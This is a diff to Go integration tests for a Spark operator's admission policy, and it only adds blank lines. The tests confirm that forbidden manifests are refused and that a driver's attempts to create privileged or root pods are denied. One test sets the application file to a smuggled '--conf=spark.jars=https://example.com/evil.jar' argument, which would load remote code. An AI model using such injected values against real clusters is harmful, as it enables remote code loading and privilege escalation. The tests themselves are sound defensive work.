@@ -42,6 +42,7 @@ func (w *suite) rules(t *testing.T) {
 	executors := podUIDs(older.executors(t))
 	w.label(t, "tenant")
 	defer w.withoutRules(t)
+
 	w.upgradeToRules(t)
 
 	t.Run("parallel", func(t *testing.T) {
@@ -66,14 +67,17 @@ func (w *suite) tryPod(t *testing.T) error {
 // without the rules answers reviews.
 func (w *suite) upgradeToRules(t *testing.T) {
 	t.Helper()
+
 	rules, err := json.Marshal(platformRules)
 	if err != nil {
 		t.Fatal(err)
 	}
+
 	if err := w.Helm(t.Context(), "upgrade", cluster.Release, filepath.Join(root, "charts/spark-operator"), "--namespace", cluster.Namespace,
 		"--reuse-values", "--wait", "--timeout", "2m", "--set-json", "config.policy="+string(rules)); err != nil {
 		t.Fatal(err)
 	}
+
 	eventually(t, time.Minute, "the end of the replica without rules", func() (string, bool) {
 		var pods corev1.PodList
 		if err := w.Client.List(t.Context(), &pods, client.InNamespace(cluster.Namespace), client.MatchingLabels{"app.kubernetes.io/component": "controller"}); err != nil {
@@ -90,14 +94,17 @@ func (w *suite) upgradeToRules(t *testing.T) {
 // label sets the label tier of the namespace of the tests. An empty value removes the label.
 func (w *suite) label(t *testing.T, tier string) {
 	t.Helper()
+
 	var value any
 	if tier != "" {
 		value = tier
 	}
+
 	patch, err := json.Marshal(map[string]any{"metadata": map[string]any{"labels": map[string]any{"tier": value}}})
 	if err != nil {
 		t.Fatal(err)
 	}
+
 	namespace := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "default"}}
 	if err := w.Client.Patch(t.Context(), namespace, client.RawPatch(types.MergePatchType, patch)); err != nil {
 		t.Fatal(err)
@@ -119,6 +126,7 @@ func podUIDs(pods []corev1.Pod) (uids []types.UID) {
 	for _, pod := range pods {
 		uids = append(uids, pod.UID)
 	}
+
 	slices.Sort(uids)
 	return uids
 }
@@ -129,18 +137,22 @@ func (w *suite) olderEndsWell(t *testing.T, s *story, executors []types.UID) {
 	if diff := cmp.Diff(executors, podUIDs(s.executors(t))); diff != "" || len(executors) == 0 {
 		t.Errorf("the executors before and after the upgrade (-before +after):\n%s", diff)
 	}
+
 	driver := s.driver(t)
 	if err := w.Client.Patch(t.Context(), driver, client.RawPatch(types.MergePatchType, []byte(`{"metadata": {"annotations": {"example.dev/signal": ""}}}`))); err != nil {
 		t.Fatal(err)
 	}
+
 	s.checkEnd(t, ending{
 		states: states(created, submitted, running, completed),
 		runs:   1, submissions: 1, reason: "Succeeded",
 		events: []string{"SparkApplicationCompleted", "SparkApplicationSubmitted", "SparkDriverRunning"},
 	})
+
 	if log := w.driverLog(t, s.app); strings.Count(log, "step session") != 2 {
 		t.Errorf("the driver did not use its executors after the upgrade:\n%s", log)
 	}
+
 	s.remove(t, s.app)
 }
 
@@ -164,12 +176,15 @@ func (w *suite) allowedApplication(t *testing.T) {
 	})
 	w.create(t, app)
 	w.awaitEnd(t, app, patience, v1beta2.ApplicationStateCompleted)
+
 	if log := w.driverLog(t, app); !piLine.MatchString(log) {
 		t.Errorf("no result in the driver's log:\n%s", log)
 	}
+
 	if got := len(app.Status.ExecutorState); got != 1 {
 		t.Errorf("%d executors ran, want 1", got)
 	}
+
 	w.remove(t, app)
 }
 
@@ -177,6 +192,7 @@ func (w *suite) allowedApplication(t *testing.T) {
 // refuses those that are stored without a review, and creates no pod.
 func (w *suite) forbiddenManifests(t *testing.T) {
 	ambiguous := `differs from %s in the same object only by upper and lower case`
+
 	unknown := []string{"spec.driver.javaOptions", "is not allowed by the rule", ofTenants}
 	for _, test := range []brokenApplication{
 		{
@@ -211,6 +227,7 @@ func (w *suite) forbiddenManifests(t *testing.T) {
 	} {
 		t.Run(test.name, func(t *testing.T) {
 			t.Parallel()
+
 			change := test.app
 			test.app = func(a *v1beta2.SparkApplication) { confined(a); change(a) }
 			test.state, test.reason, test.refused = v1beta2.ApplicationStateFailed, "InvalidSpec", true
@@ -218,6 +235,7 @@ func (w *suite) forbiddenManifests(t *testing.T) {
 			w.noPodsCreated(t, test.name+"-")
 		})
 	}
+
 	t.Run("main file", func(t *testing.T) {
 		app := w.example(t, "spark-pi-python.yaml", func(a *v1beta2.SparkApplication) {
 			a.Name, a.Spec.MainApplicationFile = "rules-main-file", "--conf=spark.jars=https://example.com/evil.jar"
@@ -239,6 +257,7 @@ func (w *suite) attackFromDriver(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
+
 	w.createAll(t, configMap("rules-program", "attack.py", string(program)))
 	app := w.example(t, "spark-pi-python.yaml", func(a *v1beta2.SparkApplication) {
 		a.Name, a.Spec.SparkConf = "attacker", timeouts
@@ -257,6 +276,7 @@ func (w *suite) attackFromDriver(t *testing.T) {
 		return fmt.Sprintf("%v\n%s", err, log), executors.MatchString(log)
 	})
 	t.Logf("the API server answers Spark: %s", executors.FindString(log))
+
 	for pod, want := range map[string]string{
 		"own-allowed":    `201`,
 		"own-privileged": `422 .*the pod's "container own with privileged, .*is not allowed by the rule podSecurity`,
@@ -268,16 +288,20 @@ func (w *suite) attackFromDriver(t *testing.T) {
 		if pod != "own-allowed" {
 			want += ofTenants
 		}
+
 		answer := regexp.MustCompile(`answer ` + pod + ` .*`).FindString(log)
 		t.Log(answer)
+
 		if !regexp.MustCompile(`^answer ` + pod + ` ` + strings.NewReplacer("(", `\(`, ")", `\)`).Replace(want)).MatchString(answer) {
 			t.Errorf("the API server answers %q, want %q", answer, want)
 		}
 	}
+
 	var pods corev1.PodList
 	if err := w.Client.List(t.Context(), &pods, client.InNamespace(app.Namespace)); err != nil {
 		t.Fatal(err)
 	}
+
 	for _, pod := range pods.Items {
 		attack := strings.HasPrefix(pod.Name, "own-") && pod.Name != "own-allowed" || pod.Labels[labelAppUID] == string(app.UID) && pod.Labels["spark-role"] == "executor"
 		if attack || pod.Spec.HostPID {
@@ -287,6 +311,7 @@ func (w *suite) attackFromDriver(t *testing.T) {
 	// The driver of the attacker is the only pod with its name.
 	w.noPodsCreated(t, "own-privileged", "own-foreign", "own-account", "own-root", "own-large", "attacker-")
 	w.remove(t, app)
+
 	if err := w.Client.Delete(t.Context(), &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "own-allowed", Namespace: app.Namespace}}); err != nil {
 		t.Error(err)
 	}
@@ -296,13 +321,16 @@ func (w *suite) attackFromDriver(t *testing.T) {
 // drivers of running applications. The operator's dry run of an executor that does not come creates none.
 func (w *suite) noPodsCreated(t *testing.T, prefixes ...string) {
 	t.Helper()
+
 	if !w.Embedded() {
 		return // its audit log cannot be read
 	}
+
 	w.readAudit(t, func(r cluster.Request) {
 		if r.Verb != "create" || r.ObjectRef.Resource != "pods" || r.ObjectRef.Subresource != "" || !r.Done() || r.DryRun() || r.ObjectRef.Name == "attacker-driver" {
 			return
 		}
+
 		if slices.ContainsFunc(prefixes, func(prefix string) bool { return strings.HasPrefix(r.ObjectRef.Name, prefix) }) {
 			t.Errorf("%s created the pod %s", r.User.Username, r.ObjectRef.Name)
 		}
